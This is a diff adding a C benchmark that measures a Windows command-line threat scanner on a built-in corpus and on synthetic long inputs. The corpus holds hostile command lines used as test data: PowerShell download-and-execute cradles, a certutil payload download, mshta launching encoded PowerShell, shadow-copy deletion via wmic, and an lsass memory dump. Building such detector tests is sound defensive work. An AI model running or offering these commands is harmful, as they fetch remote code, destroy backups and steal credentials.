@@ -0,0 +1,347 @@
+// ============================================================
+// command-line heuristics benchmark (Linux / any POSIX)
+//   cc -O2 -I.. bench_cmd_scan.c ../cmd_scan.c -o bench_cmd_scan          (sse2 on x86-64)
+//   cc -O2 -mavx2 -I.. bench_cmd_scan.c ../cmd_scan.c -o bench_cmd_scan   (avx2)
+//   ./bench_cmd_scan [scale] [--corpus cmdlines.txt] [--json report.json]
+// - corpus: built-in real-world style cmdlines (services, browsers, build tools,
+//   installers, LOLBins, encoded PowerShell), or one cmdline per line (UTF-8)
+//   image for risk_path_tier = first token of the cmdline
+// - long_*: 32K-unit cmdlines (CreateProcess limit), encoded payload / plain / worst case
+// - each case: best of 5 runs, ns per cmdline and MB/s of UTF-16 text
+// ============================================================
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <wchar.h>
+
+#include "cmd_scan.h"
+#include "plat.h"
+
+#define RUNS     5
+#define LONG_LEN 32767      // units, without NUL
+
+static uint64_t rng_state = 0x9E3779B97F4A7C15ULL;
+static uint64_t rng(void)
+{
+    uint64_t x = rng_state;
+    x ^= x << 13;
+    x ^= x >> 7;
+    x ^= x << 17;
+    return rng_state = x;
+}
+
+// 결과가 최적화로 사라지지 않도록
+static volatile uint64_t g_sink;
+
+static const char* const k_builtin[] = {
+    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
+    "C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p",
+    "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
+    "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
+    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --display-capture-permissions-policy-allowed "
+    "--lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation "
+    "--renderer-client-id=7 --time-ticks-at-unix-epoch=-1697512346193054 --launch-time-ticks=4512893221 "
+    "--field-trial-handle=1948,i,4388179125623154731,17224589731465029341,262144 --variations-seed-version=20231016-050125.793000 "
+    "--mojo-platform-channel-handle=3340 /prefetch:1",
+    "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService "
+    "--lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=2216 --field-trial-handle=2060,i,"
+    "9471828402148935373,11609425093361958720,262144 /prefetch:3",
+    "\"C:\\Program Files\\Microsoft Visual Studio\\2022\\Community\\VC\\Tools\\MSVC\\14.37.32822\\bin\\HostX64\\x64\\CL.exe\" "
+    "/c /IC:\\src\\sysmon\\controller /Zi /nologo /W3 /WX- /diagnostics:column /sdl /O2 /Oi /GL /D NDEBUG /D _CONSOLE "
+    "/D _UNICODE /D UNICODE /Gm- /EHsc /MD /GS /Gy /fp:precise /permissive- /Zc:wchar_t /Zc:forScope /Zc:inline "
+    "/Fo\"x64\\Release\\\\\" /Fd\"x64\\Release\\vc143.pdb\" /external:W3 /Gd /TC /FC /errorReport:prompt pipeline.c",
+    "\"C:\\Program Files\\Git\\mingw64\\bin\\git.exe\" -c core.quotepath=false -c color.ui=false fetch --prune --progress origin",
+    "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe /nologo /m /p:Configuration=Release /p:Platform=x64 sysmon.sln",
+    "\"C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\" --type=gpu-process --user-data-dir="
+    "\"C:\\Users\\alice\\AppData\\Roaming\\Code\" --gpu-preferences=WAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAA4AAAAAAAAAAAAAAAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA "
+    "--mojo-platform-channel-handle=1792 /prefetch:2",
+    "C:\\Windows\\system32\\msiexec.exe /i \"C:\\Users\\bob\\Downloads\\setup-x64-3.2.1.msi\" /qn /norestart",
+    "\"C:\\Users\\bob\\Downloads\\invoice_0923.pdf.exe\"",
+    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ops\\backup.ps1",
+    "powershell.exe -nop -w hidden -c \"IEX ((new-object net.webclient).downloadstring('http://10.0.0.5/a.ps1'))\"",
+    "powershell -NoP -NonI -W Hidden -Exec Bypass -Command [System.Text.Encoding]::Unicode.GetString("
+    "[System.Convert]::FromBase64String('SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAALQBVAHIAaQAgAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AcAAuAHAAcwAxAA=='))",
+    "C:\\Windows\\System32\\rundll32.exe C:\\Users\\carol\\AppData\\Local\\Temp\\tmp4A1F.tmp,DllRegisterServer",
+    "C:\\Windows\\system32\\cmd.exe /c \"C:\\Users\\carol\\AppData\\Roaming\\updater\\run.bat\" > nul 2>&1",
+    "certutil.exe -urlcache -split -f http://203.0.113.7/payload.bin C:\\Users\\Public\\p.bin",
+    "mshta.exe vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"powershell -enc JABjAD0A\"\", 0:close\")",
+    "C:\\Windows\\system32\\schtasks.exe /create /sc minute /mo 30 /tn \"OneDrive Standalone Update\" /tr "
+    "\"C:\\Users\\dave\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe\" /f",
+    "\"C:\\Program Files\\7-Zip\\7z.exe\" x -y -oC:\\build\\deps C:\\build\\cache\\llvm-17.0.1-x86_64-pc-windows-msvc.7z",
+    "C:\\Python311\\python.exe -m pip install --upgrade --no-cache-dir -r requirements.txt",
+    "\"C:\\Program Files\\Docker\\Docker\\resources\\com.docker.backend.exe\" --watchdog --native-api",
+    "wmic.exe process call create \"cmd /c vssadmin delete shadows /all /quiet\"",
+    "C:\\Windows\\explorer.exe",
+    "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
+    "\"C:\\Users\\erin\\Desktop\\tools\\procdump64.exe\" -accepteula -ma lsass.exe C:\\Users\\erin\\Desktop\\l.dmp",
+};
+
+typedef struct LINE {
+    wchar_t* cmd;
+    wchar_t* image;
+    size_t n;
+} LINE;
+
+typedef struct CORPUS {
+    LINE* lines;
+    size_t count;
+    size_t cap;
+    uint64_t units;
+} CORPUS;
+
+// UTF-8 -> wchar_t (16-bit: surrogate pairs), invalid byte -> U+FFFD
+static size_t utf8_to_wide(const char* s, size_t n, wchar_t* out)
+{
+    size_t o = 0;
+    for (size_t i = 0; i < n;) {
+        uint32_t c = (uint8_t)s[i], need = 0;
+        if (c >= 0xF0 && c < 0xF8) { need = 3; c &= 0x07; }
+        else if (c >= 0xE0) { need = 2; c &= 0x0F; }
+        else if (c >= 0xC0) { need = 1; c &= 0x1F; }
+        else if (c >= 0x80) { need = 0; c = 0xFFFD; }
+        i++;
+        for (uint32_t k = 0; k < need; k++, i++) {
+            if (i >= n || ((uint8_t)s[i] & 0xC0) != 0x80) { c = 0xFFFD; break; }
+            c = (c << 6) | ((uint8_t)s[i] & 0x3F);
+        }
+        if (WCHAR_MAX <= 0xFFFF && c > 0xFFFF) {
+            c -= 0x10000;
+            out[o++] = (wchar_t)(0xD800 + (c >> 10));
+            c = 0xDC00 + (c & 0x3FF);
+        }
+        out[o++] = (wchar_t)c;
+    }
+    out[o] = 0;
+    return o;
+}
+
+// image = argv[0] ("quoted" or up to the first space)
+static wchar_t* first_token(const wchar_t* s)
+{
+    const wchar_t* b = s;
+    const wchar_t* e;
+    if (*b == L'"') {
+        b++;
+        e = wcschr(b, L'"');
+        if (!e) e = b + wcslen(b);
+    } else {
+        e = wcschr(b, L' ');
+        if (!e) e = b + wcslen(b);
+    }
+    size_t n = (size_t)(e - b);
+    wchar_t* w = (wchar_t*)malloc((n + 1) * sizeof(wchar_t));
+    if (!w) return NULL;
+    memcpy(w, b, n * sizeof(wchar_t));
+    w[n] = 0;
+    return w;
+}
+
+static int corpus_add(CORPUS* c, const char* s, size_t n)
+{
+    if (c->count == c->cap) {
+        size_t nc = c->cap ? c->cap * 2 : 64;
+        LINE* nl = (LINE*)realloc(c->lines, nc * sizeof(LINE));
+        if (!nl) return 0;
+        c->lines = nl;
+        c->cap = nc;
+    }
+    LINE* l = &c->lines[c->count];
+    l->cmd = (wchar_t*)malloc((n + 1) * sizeof(wchar_t));
+    if (!l->cmd) return 0;
+    l->n = utf8_to_wide(s, n, l->cmd);
+    l->image = first_token(l->cmd);
+    if (!l->image) return 0;
+    c->units += l->n;
+    c->count++;
+    return 1;
+}
+
+static int corpus_load(CORPUS* c, const char* path)
+{
+    FILE* fp = fopen(path, "rb");
+    if (!fp) return 0;
+    size_t cap = 1 << 16, n = 0;
+    char* buf = (char*)malloc(cap);
+    int ch, ok = buf != NULL;
+    while (ok && (ch = fgetc(fp)) != EOF) {
+        if (ch == '\n') {
+            if (n && buf[n - 1] == '\r') n--;
+            if (n) ok = corpus_add(c, buf, n);
+            n = 0;
+            continue;
+        }
+        if (n + 1 == cap) {
+            char* nb = (char*)realloc(buf, cap * 2);
+            if (!nb) { ok = 0; break; }
+            buf = nb;
+            cap *= 2;
+        }
+        buf[n++] = (char)ch;
+    }
+    if (ok && n) ok = corpus_add(c, buf, n);
+    free(buf);
+    fclose(fp);
+    return ok && c->count > 0;
+}
+
+// ============================================================
+// 32K cmdlines
+// ============================================================
+static const char k_b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+
+typedef enum LONG_KIND { LONG_ENCODED, LONG_PLAIN, LONG_WORST } LONG_KIND;
+
+static int corpus_long(CORPUS* c, LONG_KIND kind)
+{
+    char* s = (char*)malloc(LONG_LEN + 1);
+    if (!s) return 0;
+    size_t n = 0;
+    if (kind == LONG_ENCODED) {
+        // powershell -enc <UTF-16LE script, base64>: one 32K run
+        n = (size_t)snprintf(s, LONG_LEN, "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ");
+        while (n < LONG_LEN - 2) s[n++] = k_b64[rng() % 64];
+        s[n++] = '=';
+        s[n++] = '=';
+    } else if (kind == LONG_PLAIN) {
+        // build tool response: paths and short switches, no long runs
+        n = (size_t)snprintf(s, LONG_LEN, "\"C:\\Program Files\\LLVM\\bin\\clang-cl.exe\"");
+        while (n < LONG_LEN - 64) {
+            n += (size_t)snprintf(s + n, LONG_LEN - n, " /IC:\\src\\third_party\\lib%u\\include /DFEATURE_%u=1",
+                                  (unsigned)(rng() % 997), (unsigned)(rng() % 97));
+        }
+        while (n < LONG_LEN) s[n++] = ' ';
+    } else {
+        // keyword candidates and \b changes at every few units
+        static const char* const bits[] = { "-e", "in ", "no ", "i+", "do/", "hi_", "by-", "fr.", "a=b", "x" };
+        while (n < LONG_LEN - 4) {
+            const char* b = bits[rng() % 10];
+            size_t k = strlen(b);
+            memcpy(s + n, b, k);
+            n += k;
+        }
+        while (n < LONG_LEN) s[n++] = ' ';
+    }
+    int ok = corpus_add(c, s, n);
+    free(s);
+    return ok;
+}
+
+// ============================================================
+// run: scan every line `loops` times -> elapsed ns
+// ============================================================
+static uint64_t run_corpus(const CORPUS* c, uint64_t loops)
+{
+    uint64_t acc = 0;
+    uint64_t t0 = plat_now_ns();
+    for (uint64_t k = 0; k < loops; k++) {
+        for (size_t i = 0; i < c->count; i++) {
+            int b64 = 0;
+            acc += (uint64_t)cmd_scan_tier(c->lines[i].image);
+            acc += cmd_scan_cmdline(c->lines[i].cmd, c->lines[i].n, &b64);
+            acc += (uint64_t)b64;
+        }
+    }
+    uint64_t dt = plat_now_ns() - t0;
+    g_sink += acc;
+    return dt;
+}
+
+typedef struct CASE_RESULT {
+    const char* name;
+    uint64_t cmdlines;
+    uint64_t units;
+    double ns_per_cmdline;
+    double mb_per_sec;          // UTF-16 bytes (2 per unit)
+    uint32_t flagged;           // lines with any flag / base64_sus / tier 2
+} CASE_RESULT;
+
+static CASE_RESULT g_results[8];
+static int g_nresults = 0;
+
+static void bench_case(const char* name, const CORPUS* c, double scale)
+{
+    // ~64 MB of UTF-16 text per run at scale 1
+    uint64_t loops = (uint64_t)(32.0 * 1024 * 1024 / (double)(c->units ? c->units : 1) * scale);
+    if (loops == 0) loops = 1;
+
+    run_corpus(c, loops / 10 + 1);     // warm-up
+    uint64_t best = UINT64_MAX;
+    for (int r = 0; r < RUNS; r++) {
+        uint64_t dt = run_corpus(c, loops);
+        if (dt && dt < best) best = dt;
+    }
+
+    uint32_t flagged = 0;
+    for (size_t i = 0; i < c->count; i++) {
+        CMD_SCAN s;
+        cmd_scan(c->lines[i].image, c->lines[i].cmd, &s);
+        flagged += (s.flags || s.base64_sus || s.tier == 2);
+    }
+
+    CASE_RESULT* r = &g_results[g_nresults++];
+    r->name = name;
+    r->cmdlines = loops * c->count;
+    r->units = loops * c->units;
+    r->ns_per_cmdline = (double)best / (double)r->cmdlines;
+    r->mb_per_sec = (double)r->units * 2.0 / ((double)best / 1e9) / 1e6;
+    r->flagged = flagged;
+    fprintf(stderr, "  %-14s %6zu lines  %10.1f ns/cmdline  %8.1f MB/s  flagged %u\n",
+            name, c->count, r->ns_per_cmdline, r->mb_per_sec, flagged);
+}
+
+int main(int argc, char** argv)
+{
+    double scale = 1.0;
+    const char* json_arg = NULL;
+    const char* corpus_arg = NULL;
+    for (int i = 1; i < argc; i++) {
+        if (strcmp(argv[i], "--json") == 0 && i + 1 < argc) json_arg = argv[++i];
+        else if (strcmp(argv[i], "--corpus") == 0 && i + 1 < argc) corpus_arg = argv[++i];
+        else scale = atof(argv[i]);
+    }
+    if (scale <= 0) scale = 1.0;
+
+    CORPUS corpus, enc, plain, worst;
+    memset(&corpus, 0, sizeof(corpus));
+    memset(&enc, 0, sizeof(enc));
+    memset(&plain, 0, sizeof(plain));
+    memset(&worst, 0, sizeof(worst));
+    if (corpus_arg) {
+        if (!corpus_load(&corpus, corpus_arg)) {
+            fprintf(stderr, "corpus load failed: %s\n", corpus_arg);
+            return 1;
+        }
+    } else {
+        for (size_t i = 0; i < sizeof(k_builtin) / sizeof(k_builtin[0]); i++) {
+            if (!corpus_add(&corpus, k_builtin[i], strlen(k_builtin[i]))) return 1;
+        }
+    }
+    if (!corpus_long(&enc, LONG_ENCODED) || !corpus_long(&plain, LONG_PLAIN) || !corpus_long(&worst, LONG_WORST)) {
+        fprintf(stderr, "out of memory\n");
+        return 1;
+    }
+
+    fprintf(stderr, "cmd_scan %s (best of %d)\n", cmd_scan_simd_name(), RUNS);
+    bench_case("corpus", &corpus, scale);
+    bench_case("long_encoded", &enc, scale);
+    bench_case("long_plain", &plain, scale);
+    bench_case("long_worst", &worst, scale);
+
+    FILE* jf = json_arg ? fopen(json_arg, "w") : stdout;
+    if (!jf) {
+        fprintf(stderr, "json open failed: %s\n", json_arg);
+        jf = stdout;
+    }
+    fprintf(jf, "{\"bench\":\"cmd_scan\",\"simd\":\"%s\",\"runs\":%d,\"scale\":%g,\"corpus\":\"%s\",\"results\":[",
+            cmd_scan_simd_name(), RUNS, scale, corpus_arg ? "file" : "builtin");
+    for (int i = 0; i < g_nresults; i++) {
+        const CASE_RESULT* r = &g_results[i];
+        fprintf(jf, "%s{\"name\":\"%s\",\"cmdlines\":%llu,\"units\":%llu,\"ns_per_cmdline\":%.2f,"
+                    "\"mb_per_sec\":%.1f,\"flagged\":%u}",
+                i ? "," : "", r->name, (unsigned long long)r->cmdlines, (unsigned long long)r->units,
+                r->ns_per_cmdline, r->mb_per_sec, r->flagged);
+    }
+    fprintf(jf, "]}\n");
+    if (jf != stdout) fclose(jf);
+    return 0;
+}